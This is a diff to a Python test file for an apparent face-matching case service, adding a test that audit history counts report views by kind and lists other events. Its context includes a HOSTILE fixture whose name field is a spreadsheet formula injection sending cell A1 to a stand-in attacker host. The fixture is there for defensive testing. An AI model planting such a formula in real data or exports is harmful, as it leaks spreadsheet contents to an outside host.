@@ -9,6 +9,8 @@ from typing import Any
 
 from apitest import Api, face_images, upload
 
+from facetrace.store.audit import list_events, summarise_views
+
 P = "/api/v1"
 HOSTILE = {
     "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
@@ -131,3 +133,26 @@ def test_past_searches_list_who_searched_what_for_which_case(gallery_api: Api) -
         assert search["matches"] == [f["match"] for f in result["faces"] if f["match"]]
     assert api.audit("search.history.view")[-1]["actor"] == "examiner"
     assert api.client.get(f"{P}/searches", headers=api.as_("intake")).status_code == 403
+
+
+def test_views_are_counted_for_a_record_history(api: Api) -> None:
+    """What a record's history shows (web pages): the views counted per kind, every other event listed."""
+    created = api.client.post(
+        f"{P}/reports",
+        json={"name": "Olha Counted", "reported_by": "aunt", "source": "form", "legal_basis": "consent"},
+        headers=api.as_("intake"),
+    )
+    assert created.status_code == 201, created.text
+    report = created.json()["report"]
+    for identity, times in (("reviewer", 3), ("examiner", 2)):
+        for _ in range(times):
+            assert api.client.get(f"{P}/reports/{report['reference']}", headers=api.as_(identity)).status_code == 200
+    records = [f"report:{report['id']}"]
+    with api.service.db.sessions() as session:
+        summaries = summarise_views(session, records)
+        listed, total = list_events(session, records=records, skip_ok_views=True)
+        _, everything = list_events(session, records=records)
+    assert [(s.action, s.count, s.users) for s in summaries] == [("report.view", 5, 2)]
+    assert summaries[0].first <= summaries[0].last
+    assert "report.create" in [e.action for e in listed] and not any(e.action.endswith(".view") for e in listed)
+    assert everything == total + 5
